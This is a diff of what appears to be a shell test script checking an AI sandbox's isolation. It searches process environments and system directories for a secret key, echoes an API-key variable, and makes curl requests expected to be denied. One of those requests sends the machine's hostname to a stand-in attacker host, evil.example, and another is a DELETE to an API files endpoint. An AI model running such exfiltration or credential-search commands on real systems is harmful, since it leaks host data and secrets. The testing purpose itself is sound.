@@ -24,7 +24,7 @@ cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -a -c -F -f /de
 grep -r -l -a -F -s -f /dev/fd/3 /etc /run /tmp "$HOME" . 3<<<"$key" 2>/dev/null | wc -l | sed 's/^/files: /'
 K=$key env | grep -c -F -f /dev/fd/3 3<<<"$key" | sed 's/^/search that must find: /'
 echo "placeholder: $ANTHROPIC_API_KEY"
-curl -sS -o /dev/null -w 'denied host: %{http_code}\\n' https://evil.example/?d=$(hostname) 2>&1
+curl -sS -o /dev/null -w 'denied host: %{http_code}\\n' "https://evil.example/?d=$(hostname)" 2>&1
 curl -sS -o /dev/null -w 'denied path: %{http_code}\\n' -X DELETE https://api.anthropic.com/v1/files/1 2>&1
 echo written > made-by-claude.txt
 echo LOOKED
